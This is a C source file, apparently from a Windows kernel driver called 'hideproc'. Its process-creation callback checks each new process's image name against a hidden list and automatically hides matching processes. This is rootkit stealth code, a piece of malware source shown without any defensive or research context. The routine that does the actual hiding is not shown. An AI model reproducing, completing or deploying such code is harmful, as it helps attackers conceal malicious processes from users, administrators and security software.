/*
 * notify.c - process creation callback
 */
#include "hideproc.h"

VOID
HpProcessNotify(
    PEPROCESS Process,
    HANDLE ProcessId,
    PPS_CREATE_NOTIFY_INFO CreateInfo
    )
{
    if (CreateInfo == NULL) {
        // exit - nothing to do, HpUnhideAll checks ExitProcessCalled
        return;
    }

    if (CreateInfo->ImageFileName == NULL) {
        return;
    }

    if (HpNameIsHidden(CreateInfo->ImageFileName)) {
        DBG_PRINT("auto-hiding pid %u (%wZ)\n",
                  HandleToULong(ProcessId), CreateInfo->ImageFileName);
        HpHideProcess(Process);
    }
}
